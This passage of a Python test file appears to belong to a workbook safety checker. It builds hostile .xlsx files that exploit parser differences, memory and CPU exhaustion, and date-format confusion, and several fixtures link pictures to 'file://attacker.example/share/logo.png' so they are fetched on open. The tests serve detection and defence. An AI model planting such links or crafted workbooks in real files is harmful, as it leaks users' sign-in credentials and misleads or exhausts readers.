    one as a shared string (with no entry, so nothing) and never its text: 7,500 such cells held 240 MB of text,
    7 times the limit, and were assessed.  Spreadsheet programs show such a cell empty: it is WB001 at the first
    (see `test_a_cell_spreadsheet_programs_show_otherwise_than_the_reader_is_wb001`)."""
    from tests.hostile import repeated_text, services_rows

    rows = [b'<row r="%d"><c r="K%d" t="s"><is><t>%s</t></is></c></row>' % (r, r, repeated_text(24_000, seed=r))
            for r in range(100, 1_600)]
    findings = _refused(tmp_path, services_rows(valid_bytes(tmp_path), rows, exact=True))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "cell K100 of sheet 'Services' holds an inline text but is not typed as one" in findings[0].message


@pytest.mark.parametrize("where, number", [("numFmt", "\u00b2"), ("xf", "\u00b2"), ("xf", "7" * 5000),
                                           ("uniqueCount", "\u00b2")],
                         ids=["format id in superscript", "cell format's format id in superscript",
                              "5,000 digits", "entries in superscript"])
def test_numbers_python_calls_digits_but_cannot_read_are_no_defect(tmp_path, where, number):
    """`isdigit` takes a superscript two and a run of 5,000 digits, which `int` refuses: the check ended as an isap
    defect (exit 3).  Such a number is no number, as to the reader."""
    from tests.hostile import rezip, shared_strings_named_by_cells

    base = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        styles = z.read("xl/styles.xml").decode()
    if where == "uniqueCount":
        data = shared_strings_named_by_cells(base, b"<si><t>x</t></si>", cells=1, declared=number.encode())
    else:  # the date format's id, in its list or in the cell format using it
        tag = f'<{where} numFmtId="164"'
        assert tag in styles
        data = rezip(base, {"xl/styles.xml": styles.replace(tag, f'<{where} numFmtId="{number}"', 1).encode()})
    path = tmp_path / "odd-number.xlsx"
    path.write_bytes(data)
    report = check_file(path)
    assert report.exit_code in (0, 1, 2), report.findings
    assert not [f for f in report.findings if f.rule_id == "ISAP"], report.findings


def test_only_the_cell_formats_of_the_list_are_counted():
    """An element other than `xf` in `cellXfs` shifted every later cell format by one for the scan, never for the
    reader or Excel: a currency column became dates."""
    from isap.workbook.safety import _date_styles

    styles = (b'<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cellXfs>%s'
              b'<xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>')
    assert _date_styles(styles % b"", "xl/styles.xml") == frozenset({1})
    assert _date_styles(styles % b"<extLst/>", "xl/styles.xml") == frozenset({1})


@pytest.mark.parametrize("encoding", ["raw_unicode_escape", "unicode_escape", "windows-1252"])
def test_a_part_in_an_encoding_the_parser_does_not_read_itself_is_wb001(tmp_path, encoding):
    """The XML parser read a part declared as `raw_unicode_escape` byte for byte, so `\\u003c` was six characters of
    text to the scan, while the copy made for the reader decoded it as `<`: the reader read a cell the scan never
    saw (2.3 GB from a 28 KB file).  Only the parser's own encodings are read."""
    from tests.hostile import read_part, rezip

    base = valid_bytes(tmp_path)
    cover = read_part(base, "xl/worksheets/sheet2.xml").decode()
    hidden = cover.replace("</sheetData>", "\\u003crow r=\"9\"\\u003e\\u003c/row\\u003e</sheetData>", 1)
    odd = (f'<?xml version="1.0" encoding="{encoding}"?>' + hidden.split("?>", 1)[-1]).encode("latin-1")
    findings = _refused(tmp_path, rezip(base, {"xl/worksheets/sheet2.xml": odd}))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert f"is written in the encoding '{encoding}'" in findings[0].message, findings[0].message


def test_a_utf8_byte_order_mark_before_another_declared_encoding_is_wb001(tmp_path):
    from tests.hostile import read_part, rezip

    base = valid_bytes(tmp_path)
    cover = read_part(base, "xl/worksheets/sheet2.xml").decode()
    odd = b"\xef\xbb\xbf" + ('<?xml version="1.0" encoding="ISO-8859-1"?>' + cover.split("?>", 1)[-1]).encode("latin-1")
    findings = _refused(tmp_path, rezip(base, {"xl/worksheets/sheet2.xml": odd}))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "byte-order mark but declares the encoding 'ISO-8859-1'" in findings[0].message, findings[0].message


@pytest.mark.parametrize("exact", [False, True], ids=["canonical", "exact parse"])
@pytest.mark.parametrize("typed", [b' t="d"', b""], ids=["date", "untyped"])
def test_a_value_the_reader_keeps_as_text_counts_in_the_text_budget(tmp_path, typed, exact):
    """The reader keeps a `t="d"` value, or an untyped one that is no number, as a text; the scan counted only inline
    strings and formula text: 8,000 cells of 32,000 characters (256 MB, 7.6 times the limit) were assessed."""
    from tests.hostile import repeated_text, services_rows

    rows = [b'<row r="%d"><c r="K%d"%s><v>%s</v></c></row>' % (r, r, typed, repeated_text(30_000, seed=r))
            for r in range(100, 1_300)]
    findings = _refused(tmp_path, services_rows(valid_bytes(tmp_path), rows, exact=exact))
    assert [f.rule_id for f in findings] == ["WB003"], findings
    assert "max_shared_text_bytes" in findings[0].message, findings[0].message


def test_a_broken_surrogate_pair_in_a_utf16_part_is_wb001_not_a_defect(tmp_path):
    """The XML parser pairs half a surrogate with whatever follows it; the strict decoder that makes the reader's
    UTF-8 copy refused it, and the check ended as an isap defect (exit 3)."""
    from tests.hostile import read_part, reencoded, rezip

    base = valid_bytes(tmp_path)
    cover = reencoded(read_part(base, "xl/worksheets/sheet2.xml"), "utf-16-le", bom=True, declare="UTF-16")
    at = cover.index("<t>".encode("utf-16-le")) + len("<t>".encode("utf-16-le"))
    broken = cover[:at] + b"\x00\xd8" + "x".encode("utf-16-le") + cover[at:]
    findings = _refused(tmp_path, rezip(base, {"xl/worksheets/sheet2.xml": broken}))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "not valid utf-16" in findings[0].message, findings[0].message


@pytest.mark.parametrize("inside", [b"<is/><v>1</v>", b"<r><t>a</t></r><is/><v>1</v>", b"<v>1</v>"],
                         ids=["nested is", "after a run", "value"])
def test_an_inline_string_holding_what_the_reader_reads_as_the_value_is_wb001(tmp_path, inside):
    """The reader ends an inline string at the first end tag named `is` and reads what follows as the cell's value:
    in a `t="s"` cell, `<is><is/><v>1</v></is>` was a copy of a 32,000-character shared string to it and one
    character of text to the scan (60,000 such cells: 2 GB, assessed)."""
    from tests.hostile import long_text, services_rows, shared_strings_named_by_cells

    base = shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><t>a</t></si><si><t>"
                                         + long_text(32_000) + b"</t></si>", cells=0, declared=b"2")
    row = b'<row r="100"><c r="K100" t="s"><is><t>a</t>%s</is></c></row>' % inside
    findings = _refused(tmp_path, services_rows(base, [row]))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "cell K100 of sheet 'Services' holds an element named" in findings[0].message, findings[0].message


@pytest.mark.parametrize("exact", [False, True], ids=["canonical", "exact parse"])
@pytest.mark.parametrize("rows, repeats", [(1, 2_000), (400, 20)], ids=["one row", "rows measured whole"])
def test_more_cells_than_the_sheets_area_is_wb001(tmp_path, exact, rows, repeats):
    """The scan measured a sheet's area, rows by columns, and a row naming A7 10,000 times was one cell of it;
    the reader holds each: 10.5 million cells from a 9 MB file, 7.5 times the workbook's limit, assessed.  A sheet
    naming more cells than its area holds names some twice, which no spreadsheet program writes."""
    from tests.hostile import services_rows

    added = [b'<row r="%d">' % r + b'<c r="K%d"><v>1</v></c>' % r * repeats + b"</row>"
             for r in range(100, 100 + rows)]
    findings = _refused(tmp_path, services_rows(valid_bytes(tmp_path), added, exact=exact))
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "sheet 'Services' names" in findings[0].message and "twice or more" in findings[0].message, findings


@pytest.mark.parametrize("last, refused", [("x", False), ("\u0175", True), ("\U0001F600", True)],
                         ids=["ASCII", "one character above U+00FF", "one emoji"])
def test_a_shared_string_counts_as_python_holds_its_widest_character(tmp_path, last, refused):
    """A shared string was counted as its bytes in the file: one emoji in a 32,000-byte entry named by 1,040 cells
    made Python hold 133 MB of text counted as 33 MB, under the limit.  Each entry's bytes now weigh as its widest
    character does in Python; the same cells of plain text are still read."""
    from tests.hostile import long_text, shared_strings_named_by_cells

    text = long_text(32_000 - len(last.encode())) + last.encode()
    data = shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><t>" + text + b"</t></si>", cells=1_040)
    path = tmp_path / "wide.xlsx"
    path.write_bytes(data)
    report = check_file(path)
    assert [f.rule_id for f in report.findings if f.rule_id.startswith("WB")] == (["WB003"] if refused else []), \
        report.findings
    if refused:
        assert "max_shared_text_bytes" in report.findings[0].message


def test_cells_showing_errors_are_kept_once_each_kind_and_bounded(tmp_path):
    """1.8 million bare error cells (`<c t="e"/>`), which hold nothing and count toward no cell limit, were each
    kept as an object of their own by the scan: 632 MB from a 3.6 MB file, assessed.  A bare one is nothing, to
    the reader too; those holding an error share one object a literal, and more than the policy's number of them
    in a sheet is WB003."""
    from isap.policy import Policy
    from isap.workbook.safety import inspect
    from tests.hostile import services_rows

    rows = [b'<row r="%d"><c r="K%d" t="e"/><c r="L%d" t="e"><v>#N/A</v></c></row>' % (r, r, r)
            for r in range(100, 300)]
    path = tmp_path / "errors.xlsx"
    path.write_bytes(services_rows(valid_bytes(tmp_path), rows))
    services = next(sheet for sheet in inspect(path, Policy()).sheets if sheet.name == "Services")
    held = [cell for (row, col), cell in services.special.items() if row >= 99]
    assert len(held) == 200 and {(c.kind, c.literal) for c in held} == {("error", "#N/A")}
    assert len({id(c) for c in held}) == 1  # one object for them all
    assert all(col == 11 for (row, col) in services.special if row >= 99)  # column L; the bare K cells are not kept
    report = check_file(path, Policy(max_special_cells=150))
    assert [f.rule_id for f in report.findings] == ["WB003"], report.findings
    assert "more than 150 cells showing an error" in report.findings[0].message


def test_a_workbook_whose_zip_ends_with_zip64_records_is_read(tmp_path):
    """Some zip writers always end an archive with zip64 records; when they describe the one directory, the
    workbook is checked as any other."""
    from tests.hostile import with_zip64_end

    path = tmp_path / "zip64.xlsx"
    path.write_bytes(with_zip64_end(valid_bytes(tmp_path)))
    assert check_file(path).findings == []


def test_a_part_renamed_for_the_reader_by_an_extra_field_is_wb001(tmp_path):
    """The readers' zip library takes a part's name from an Info-ZIP Unicode Path extra field, Python's zipfile
    ignores it: two parts swapping names so had the scan measure the clean Finance sheet while the reader read
    150,000 rows under its name, never measured."""
    from python_calamine import CalamineWorkbook

    from tests.hostile import engagement_part, read_part, renamed_by_unicode_path

    base = valid_bytes(tmp_path)
    part = engagement_part(base)
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (i, i, i) for i in range(1, 150_001))
    content = read_part(base, part).split(b"<sheetData")[0] + b"<sheetData>" + rows + b"</sheetData></worksheet>"
    data = renamed_by_unicode_path(base, part, content)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert z.read(part) == read_part(base, part)  # what the scan would have measured
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert len(book.get_sheet_by_name("Engagement").to_python()) >= 150_000  # what the reader reads
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert "extra field" in findings[0].message, findings[0].message


UTF8_NAME = 0x800  # the general purpose flag saying a part's name is UTF-8


@pytest.mark.parametrize("flags, refused", [(0, True), (UTF8_NAME, False)], ids=["unmarked", "marked as UTF-8"])
def test_a_name_outside_ascii_is_read_only_when_marked_as_utf8(tmp_path, flags, refused):
    """Python's zipfile reads an unmarked name as code page 437, the readers' zip library as UTF-8 whenever it is
    valid UTF-8: the Finance sheet's part named in both spellings let each read a different one (the reader 150,000
    rows the scan never measured).  A name outside ASCII must say it is UTF-8, and then both read it alike."""
    from tests.hostile import raw_archive

    data = raw_archive(valid_bytes(tmp_path), [("xl/media/sh\u00e9.png".encode(), b"\x89PNG\r\n", b"", flags)])
    if refused:
        findings = _refused(tmp_path, data)
        assert [f.rule_id for f in findings] == ["WB001"], findings
        assert "not marked as UTF-8" in findings[0].message, findings[0].message
    else:
        path = tmp_path / "named.xlsx"
        path.write_bytes(data)
        assert check_file(path).findings == []


@pytest.mark.parametrize("extra, words", [
    (struct.pack("<HHQQQ", 0x0001, 24, 1, 1, 0), "zip64"),
    (struct.pack("<HHI", 0x5455, 4, 0) * 2, "twice"),
], ids=["zip64 extra in the directory", "one extra field twice"])
def test_extra_fields_readers_apply_differently_are_wb001(tmp_path, extra, words):
    """The readers' zip library applies every zip64 extra field of a directory record, last one winning, Python's
    zipfile only the values its 32-bit fields mark: two such fields sent the reader to a sheet hidden inside
    another part.  A file within the size limits needs none, and no header holds one field twice."""
    from tests.hostile import raw_archive

    data = raw_archive(valid_bytes(tmp_path), [(b"xl/media/image9.png", b"\x89PNG\r\n", extra, 0)])
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"], findings
    assert words in findings[0].message, findings[0].message


def test_a_directory_record_asking_for_a_zip_version_python_cannot_read_is_wb001(tmp_path):
    """A byte of the zip directory changed (found by the property test of random bytes): Python's zipfile raised
    NotImplementedError ("zip file version 6.4"), and the check ended as a defect of isap, exit 3."""
    data = bytearray(valid_bytes(tmp_path))
    record = data.rfind(b"PK\x01\x02")  # the last directory record: its "version needed to extract" byte
    data[record + 6] = 64
    findings = _refused(tmp_path, bytes(data))
    assert [f.rule_id for f in findings] == ["WB001"], findings


def test_a_sheet_whose_part_is_missing_is_wb001_when_the_reader_reads_ahead(tmp_path):
    """Found by the random-bytes property: a byte changed in the zip directory renamed a worksheet's part, and
    the copy made for reading ahead looked it up (an isap defect, exit 3)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(valid_bytes(tmp_path))) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            renamed = info.filename.replace("sheet2.xml", "sheetX.xml") if "/_rels/" not in info.filename else None
            dst.writestr(renamed or info.filename, src.read(info.filename))
    findings = _refused(tmp_path, out.getvalue())
    assert [f.rule_id for f in findings] == ["WB001"] and "has no data part" in findings[0].message


def test_a_number_format_longer_than_any_program_writes_is_wb001(tmp_path):
    """Found by a fresh attack: one number format of 2 MB used by 140,000 cell formats held a checker for its whole
    processor budget, the scan and the reader each testing the code once per cell format."""
    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        styles = z.read("xl/styles.xml")
    long = styles.replace(b"</numFmts>", b'<numFmt numFmtId="190" formatCode="' + b"0" * 1001 + b'"/></numFmts>', 1)
    findings = _refused(tmp_path, rezip(data, replace={"xl/styles.xml": long}))
    assert [f.rule_id for f in findings] == ["WB001"]
    assert "a number format of 1,001 characters; spreadsheet programs write at most 255" in findings[0].message


def _first_child(element: bytes, child: bytes):
    """A change that puts `child`, of another namespace, first in the styles part's `element`."""
    import re

    return lambda x: re.sub(rb"<%s( [^>]*)?>" % element,
                            lambda m: m.group(0)[:-1] + b' xmlns:x="urn:example:other">' + child, x, count=1)


@pytest.mark.parametrize("change", [
    _first_child(b"cellXfs", b'<x:xf numFmtId="14"/>'),
    _first_child(b"numFmts", b'<x:numFmt numFmtId="190" formatCode="0"/>'),
], ids=["cell-format", "number-format"])
def test_a_style_of_another_namespace_is_wb001(tmp_path, change):
    """A cell format of another namespace is counted by the reader, skipped by spreadsheet programs: every later
    cell format, and with it whether a cell is a date, would be shifted by one between them."""
    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        styles = z.read("xl/styles.xml")
    changed = change(styles)
    assert changed != styles
    findings = _refused(tmp_path, rezip(data, replace={"xl/styles.xml": changed}))
    assert [f.rule_id for f in findings] == ["WB001"]
    assert "its styles part holds an element of another namespace" in findings[0].message

def _with_workbook_part(tmp_path, change) -> bytes:
    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        part = z.read("xl/workbook.xml")
    changed = change(part)
    assert changed != part
    return rezip(data, replace={"xl/workbook.xml": changed})


@pytest.mark.parametrize("change, words", [
    (lambda x: x.replace(b"<sheets>", b'<sheets xmlns:x="urn:example:other"><x:sheet name="Cover" sheetId="90" '
                                      b'r:id="rId99"/>', 1), "holds an element of another namespace in its sheets"),
    (lambda x: x.replace(b"</sheets>", b'</sheets><sheets><sheet name="Notes" sheetId="91" r:id="rId99"/></sheets>',
                         1), "lists its sheets, or says its date system, twice"),
    (lambda x: x.replace(b"<workbookPr />", b'<workbookPr /><workbookPr date1904="1" />', 1),
     "lists its sheets, or says its date system, twice"),
], ids=["sheet-of-another-namespace", "two-sheet-lists", "two-date-systems"])
def test_a_workbook_part_read_otherwise_by_spreadsheet_programs_is_wb001(tmp_path, change, words):
    """The reader is given the sheets and the date system the scan found; spreadsheet programs read them only
    from the workbook's own elements of the spreadsheet namespace, once."""
    findings = _refused(tmp_path, _with_workbook_part(tmp_path, change))
    assert [f.rule_id for f in findings] == ["WB001"] and words in findings[0].message


def test_sheets_and_a_date_system_elsewhere_in_the_workbook_part_are_not_read(tmp_path):
    """A `sheet` or `workbookPr` element anywhere but in its place (here in an extension list, where spreadsheet
    programs do not look for one) is not read: no second Cover sheet, no 1904 dates."""
    base = _wb010(tmp_path, valid_bytes(tmp_path), "base.xlsx")[0]
    moved = _with_workbook_part(tmp_path, lambda x: x.replace(b"</workbook>", (
        b'<extLst><ext uri="{00000000-0000-0000-0000-000000000000}" xmlns:x="urn:example:other"><x:workbookPr '
        b'date1904="1"/><sheet name="Cover" sheetId="92" r:id="rId1"/></ext></extLst></workbook>'), 1))
    report = _wb010(tmp_path, moved, "moved.xlsx")[0]
    assert findings_of(report) == findings_of(base)

@pytest.mark.parametrize("value", ["on", "t", "2", "01", "-1", " true ", "TRUE", "off"])
def test_a_date_system_said_otherwise_than_1_0_true_or_false_is_wb001(tmp_path, value):
    """Found by a fresh attack: `date1904="on"` was the 1900 system to isap and 1904 to LibreOffice and Gnumeric,
    so every date checked was four years earlier than the one shown, and a board approval after submission went
    unreported."""
    data = _with_workbook_part(tmp_path, lambda x: x.replace(b"<workbookPr />",
                                                             f'<workbookPr date1904="{value}" />'.encode(), 1))
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"]
    assert f"says its date system as {value!r}" in findings[0].message


@pytest.mark.parametrize("value", ["on", "2", " 1"])
def test_a_row_format_said_otherwise_than_1_0_true_or_false_is_wb001(tmp_path, value):
    """Whether a row's style applies to its cells (and so whether they are dates) is said by `customFormat`, read as
    yes by LibreOffice for `on` or any number but 0: only what spreadsheet programs write is read."""
    data = _with_sheet2(tmp_path, lambda x: x.replace(b'<row r="5">',
                                                      f'<row r="5" s="1" customFormat="{value}">'.encode(), 1))
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"]
    assert f"says whether its row 5's format applies as {value!r}" in findings[0].message

def _with_date_format(tmp_path, code: str | None = None, builtin: int | None = None) -> bytes:
    """The workbook with its date cells' format (number format 164) written as `code`, or their cell format
    naming the built-in number format `builtin` instead."""
    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        styles = z.read("xl/styles.xml")
    if code is not None:
        changed = styles.replace(b'formatCode="yyyy-mm-dd"', f'formatCode="{code}"'.encode(), 1)
    else:
        changed = styles.replace(b'<xf numFmtId="164"', f'<xf numFmtId="{builtin}"'.encode(), 1)
    assert changed != styles
    return rezip(data, replace={"xl/styles.xml": changed})


@pytest.mark.parametrize("code", ["[&lt;0]0;yyyy-mm-dd", "[&lt;0]yyyy-mm-dd;0", "yyyy-mm-dd;0", "0;yyyy-mm-dd;0", "e",
                                  "ggge", "0.00;[Red]ee"])
def test_a_number_format_spreadsheet_programs_show_as_a_date_otherwise_than_the_reader_is_wb001(tmp_path, code):
    """Found by a fresh attack: the reader judges a format a date by its first section only, spreadsheet programs
    show a number with the section its sign or condition picks (`[<0]0;yyyy-mm-dd` shows 10 as 1900-01-09 while
    isap read the whole number 10); and an era's year (`e`, `g`) is a date to LibreOffice and Gnumeric only."""
    findings = _refused(tmp_path, _with_date_format(tmp_path, code))
    assert [f.rule_id for f in findings] == ["WB001"]
    assert "shows some numbers as dates and others not, or shows a date the reader does not read as one" in (
        findings[0].message)


@pytest.mark.parametrize("code", ["yyyy-mm-dd;@", "dd/mm/yyyy;;", "yyyy-mm-dd;yyyy-mm-dd", "0.00E+00", "&quot;e&quot;0",
                                  "General;-General", "#,##0;[Red]-#,##0"])
def test_number_formats_that_read_alike_everywhere_are_read(tmp_path, code):
    """A date with a text section (as Excel writes its own date formats), hidden sections, a scientific format
    and a quoted `e` read alike in the reader and in spreadsheet programs."""
    report = _wb010(tmp_path, _with_date_format(tmp_path, code))[0]
    assert not report.refused


@pytest.mark.parametrize("builtin", [27, 36, 50, 58, 71, 81])
def test_a_built_in_number_format_read_otherwise_by_spreadsheet_programs_is_wb001(tmp_path, builtin):
    """Found by a fresh attack: built-in formats 27–36 and 50–81 (East Asian and Thai dates) are dates to some
    spreadsheet programs or to the reader and numbers to others."""
    findings = _refused(tmp_path, _with_date_format(tmp_path, builtin=builtin))
    assert [f.rule_id for f in findings] == ["WB001"]
    assert f"names the built-in number format {builtin}" in findings[0].message

@pytest.mark.parametrize("cell", [
    b'<c r="B5" t="inlineStr"><is><t>ISAP-2026-01_x0034_</t></is></c>',
    b'<c r="B5" t="inlineStr" s="0"><is><t>QU_x0041_</t></is></c>',
    b'<c r="B5" t="inlineStr"><is><t>&#95;x0040_</t></is></c>',
], ids=["inline-text", "exact-parse", "escaped-underscore"])
def test_an_escaped_printable_character_in_a_cell_is_wb001(tmp_path, cell):
    """Found by a fresh attack: the reader decodes `_x0034_` as `4`; LibreOffice shows it as typed, Gnumeric
    too, so `ISAP-2026-01_x0034_` was a valid reference to isap and a wrong one on screen."""
    findings = _refused(tmp_path, _with_sheet2(tmp_path, lambda x: x.replace(b'<c r="B5" t="n"><v>2</v></c>', cell,
                                                                              1)))
    assert [f.rule_id for f in findings] == ["WB001"]
    assert "holds an escaped character" in findings[0].message


def test_an_escaped_printable_character_in_shared_strings_is_wb001(tmp_path):
    from tests.hostile import shared_strings_named_by_cells

    data = shared_strings_named_by_cells(valid_bytes(tmp_path), b"<si><t>QU_x0041_</t></si>", 1)
    findings = _refused(tmp_path, data)
    assert [f.rule_id for f in findings] == ["WB001"]
    assert "holds an escaped character" in findings[0].message


def test_an_escaped_control_character_is_read(tmp_path):
    """Excel writes a line break as `_x000D_`: read (every program shows a control character alike, as none)."""
    report = _wb010(tmp_path, _with_sheet2(tmp_path, lambda x: x.replace(
        b'<c r="B5" t="n"><v>2</v></c>', b'<c r="B5" t="inlineStr"><is><t>a_x000D_b</t></is></c>', 1)))[0]
    assert not report.refused

IGNORABLE = (b'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:q="urn:example:ignored" '
             b'mc:Ignorable="q" ')


@pytest.mark.parametrize("cell, what", [
    (b"<v>7</v><q:v>1</q:v>", "an element of another namespace ('v') in its data"),
    (b"<v>7</v><v>1</v>", "two values"),
], ids=["value-in-an-ignorable-namespace", "two-values"])
def test_a_cell_with_a_second_value_is_wb001(tmp_path, cell, what):
    """Found by a fresh attack: a spreadsheet program drops an element of a namespace the sheet marks ignorable
    and shows the first value; the reader kept the last, so the checkpoint read as 1 where Excel shows 7 and its
    error was hidden."""
    import re

    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet2.xml")
    first_number = re.search(rb"<c ([^>]*)><v>([0-9.]+)</v></c>", sheet)
    changed = sheet.replace(b"<worksheet ", b"<worksheet " + IGNORABLE, 1).replace(
        first_number.group(0), b"<c " + first_number.group(1) + b">" + cell + b"</c>", 1)
    findings = _refused(tmp_path, rezip(data, replace={"xl/worksheets/sheet2.xml": changed}))
    assert [f.rule_id for f in findings] == ["WB001"] and f"holds {what}, which no spreadsheet" in findings[0].message


def test_data_connections_are_wb010(tmp_path):
    """Found by a fresh attack: connections refreshed as the workbook opens (a text file on a share, a web query,
    a database) fetch from elsewhere as a link does, and went unreported."""
    from tests.hostile_documents import CONNECTIONS

    report, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), {"xl/connections.xml": CONNECTIONS}))
    assert messages == ["The workbook holds data connections (part xl/connections.xml): opening the original may "
                        "make it fetch data from another file or server."]
    assert report.exit_code == 0


def _with_sheet2(tmp_path, change) -> bytes:
    from tests.hostile import rezip

    data = valid_bytes(tmp_path)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet2.xml")
    return rezip(data, replace={"xl/worksheets/sheet2.xml": change(sheet)})


@pytest.mark.parametrize("inside, words", [
    (b"<x>" * 9 + b"</x>" * 9, "holds more than 8 levels or 20,000 elements of XML"),
    (b'<x a="1"/>' * 20_001, "holds more than 8 levels or 20,000 elements of XML"),
], ids=["nested", "side-by-side"])
def test_a_cell_of_more_xml_than_any_program_writes_is_wb001(tmp_path, inside, words):
    """Found by a fresh attack: each element of an open cell is held until the cell ends, and some checks look at
    all of them: 990,000 nested elements in one cell took 1.18 GB, and nested formulas 60 s of processor time."""
    findings = _refused(tmp_path, _with_sheet2(tmp_path, lambda x: x.replace(
        b'<c r="B5" t="n"><v>2</v></c>', b'<c r="B5" t="n">' + inside + b"<v>2</v></c>", 1)))
    assert [f.rule_id for f in findings] == ["WB001"] and words in findings[0].message


def test_more_column_descriptions_than_columns_are_wb001(tmp_path):
    """Found by a fresh attack: 300,000 `<col>` elements with a date style, each searched for every number cell,
    held a checker for a minute."""
    cols = b"<cols>" + b"".join(b'<col min="%d" max="%d" style="1"/>' % (i, i) for i in range(1, 16_386)) + b"</cols>"
    findings = _refused(tmp_path, _with_sheet2(tmp_path, lambda x: x.replace(b"<sheetData>", cols + b"<sheetData>",
                                                                              1)))
    assert [f.rule_id for f in findings] == ["WB001"] and "describes more than 16,384 columns" in findings[0].message


def test_a_picture_linked_from_outside_is_wb010(tmp_path):
    """Found by a fresh attack: Excel fetches a linked picture as the workbook opens (a file share's sends the
    reader's sign-in), and only linked OLE objects were reported."""
    rels = {"xl/drawings/_rels/drawing1.xml.rels": (
        f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rId1" Type="{WS_REL}image" '
        'Target="file://attacker.example/share/logo.png" TargetMode="External"/></Relationships>').encode()}
    report, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), rels))
    assert messages == ["The workbook links a picture to the external file 'file://attacker.example/share/logo.png' "
                        "(part xl/drawings/_rels/drawing1.xml.rels): opening the original may make it reach that "
                        "file."]


_DRAWING_NS = ('xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
               'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
               'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
_LINKED_AS_HYPERLINK = {
    "drawing-blip": ("xl/drawings/drawing1.xml",
                     f'<xdr:wsDr {_DRAWING_NS}><xdr:pic><xdr:blipFill><a:blip r:link="rId1"/></xdr:blipFill>'
                     '</xdr:pic></xdr:wsDr>'),
    "vml-imagedata": ("xl/drawings/vmlDrawing1.vml",
                      '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
                      '<v:shape><v:imagedata o:relid="rId1"/></v:shape></xml>'),
    "character-reference": ("xl/drawings/drawing1.xml",
                            f'<xdr:wsDr {_DRAWING_NS}><xdr:pic><xdr:blipFill><a:blip r:link="&#114;Id1"/>'
                            '</xdr:blipFill></xdr:pic></xdr:wsDr>'),
    "shape-hyperlink-with-link": ("xl/drawings/drawing1.xml",
                                  f'<xdr:wsDr {_DRAWING_NS}><xdr:sp><a:hlinkClick r:id="rId1" r:link="rId1"/>'
                                  '</xdr:sp></xdr:wsDr>'),
}


def _hyperlink_relationship(part: str, target: str = "file://attacker.example/share/logo.png") -> dict[str, bytes]:
    folder, _, file = part.rpartition("/")
    return {f"{folder}/_rels/{file}.rels": (
        f'<Relationships xmlns="{PKG_RELS_NS}"><Relationship Id="rId1" Type="{HYPERLINK_REL}" '
        f'Target="{target}" TargetMode="External"/></Relationships>').encode()}


@pytest.mark.parametrize("case", list(_LINKED_AS_HYPERLINK))
def test_a_picture_linked_through_a_relationship_typed_as_a_hyperlink_is_wb010(tmp_path, case):
    """Found by a fresh attack: a picture that names its outside file through a relationship typed as a hyperlink
    (not as a picture) was not reported, and LibreOffice fetched it as the workbook opened. What a relationship
    is used for decides, not the type it is given."""
    part, xml = _LINKED_AS_HYPERLINK[case]
    report, messages = _wb010(tmp_path, _with_parts(valid_bytes(tmp_path), {
        part: xml.encode(), **_hyperlink_relationship(part)}))
    what = "content" if case == "shape-hyperlink-with-link" else "a picture"
    assert messages == [f"The workbook links {what} to the external file 'file://attacker.example/share/logo.png' "
                        f"(part {part}, through a relationship typed as a hyperlink): opening the original may make "
                        "it reach that file."]
    assert not report.refused


def test_a_sheet_background_linked_through_a_relationship_typed_as_a_hyperlink_is_wb010(tmp_path):
    data = _with_sheet2(tmp_path, lambda x: x.replace(
        b"</worksheet>", b'<picture xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
                         b'r:id="rId1"/></worksheet>', 1))
    _, messages = _wb010(tmp_path, _with_parts(data, _hyperlink_relationship("xl/worksheets/sheet2.xml")))
    assert [m.split(" (part ")[1].split(")")[0] for m in messages] == [
        "xl/worksheets/sheet2.xml, through a relationship typed as a hyperlink"]


def test_hyperlinks_used_as_hyperlinks_are_not_wb010(tmp_path):
    """A cell's hyperlink and a shape's are followed only when clicked: no warning for them."""
    data = _with_sheet2(tmp_path, lambda x: x.replace(
        b"</worksheet>", b'<hyperlinks><hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                         b'relationships" ref="B5" r:id="rId1"/></hyperlinks></worksheet>', 1))
    drawing = "xl/drawings/drawing1.xml"
